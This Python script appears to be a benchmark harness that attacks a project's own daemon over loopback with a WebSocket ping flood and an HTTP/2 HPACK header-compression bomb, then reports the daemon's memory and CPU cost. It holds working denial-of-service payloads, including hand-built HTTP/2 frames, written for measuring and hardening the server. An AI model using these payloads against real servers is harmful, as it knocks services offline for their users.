# Attacks from issue 7 against a running daemon (started by bench/attack-figures); prints what each cost it.
# Loopback only; every loop is bounded in time or count.
import os, socket, sys, time, subprocess, base64, struct
port = int(sys.argv[1]); pid = int(sys.argv[2]); key = sys.argv[3]
def rss():
    for l in open(f"/proc/{pid}/status"):
        if l.startswith("VmRSS"): return int(l.split()[1]) * 1024
def cpu():
    f = open(f"/proc/{pid}/stat").read().split(")")[1].split()
    return (int(f[11]) + int(f[12])) / os.sysconf("SC_CLK_TCK")
# 1. WebSocket ping flood from a client that never reads, for 6.5 s.
s = socket.create_connection(("127.0.0.1", port))
s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
s.sendall((f"GET /v1/worlds/playground/ws?access_token={key} HTTP/1.1\r\nHost: t\r\nUpgrade: websocket\r\n"
           "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n").encode())
time.sleep(0.3)
ping = bytes([0x89, 0x80 | 125, 1, 2, 3, 4]) + bytes(125)
chunk = ping * 500
r0, c0 = rss(), cpu(); sent = 0; t0 = time.time()
s.setblocking(False)
off = 0
while time.time() - t0 < 6.5:
    try:
        n = s.send(chunk[off:])
        sent += n
        off = (off + n) % len(chunk)
    except BlockingIOError:
        time.sleep(0.001)
    except ConnectionError as e:
        print("ws ping flood: connection closed by the daemon after", round(time.time() - t0, 2), "s:", e)
        break
print(f"ws ping flood: sent {sent/1e6:.1f} MB of pings in 6.5 s; daemon RSS {r0/1e6:.1f} -> {rss()/1e6:.1f} MB; daemon CPU {cpu()-c0:.2f} s")
s.close()
# 2. HPACK bomb: 20 requests of ~134 KB each referencing one 4,000-byte dynamic-table entry.
def frame(t, f, sid, p): return len(p).to_bytes(3, 'big') + bytes([t, f]) + sid.to_bytes(4, 'big') + p
block = bytes([0x82, 0x86, 0x84, 0x01, 0x01, 0x74]) + bytes([0x40, 0x01, ord('x'), 0x7F, 0xA1, 0x1E]) + b"a" * 4000 + b"\xbe" * 130000
c0 = cpu()
for k in range(20):
    b = socket.create_connection(("127.0.0.1", port))
    out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
    at = 0; first = True
    while at < len(block):
        n = min(16384, len(block) - at); last = at + n == len(block)
        out += frame(1 if first else 9, (4 if last else 0) | (1 if first else 0), 1, block[at:at+n]); first = False; at += n
    b.sendall(out)
    b.settimeout(0.3)
    try:
        while b.recv(65536): pass
    except Exception: pass
    b.close()
print(f"hpack bomb: 20 requests of {len(block)} header bytes: daemon CPU {(cpu()-c0)*1000/20:.1f} ms each")
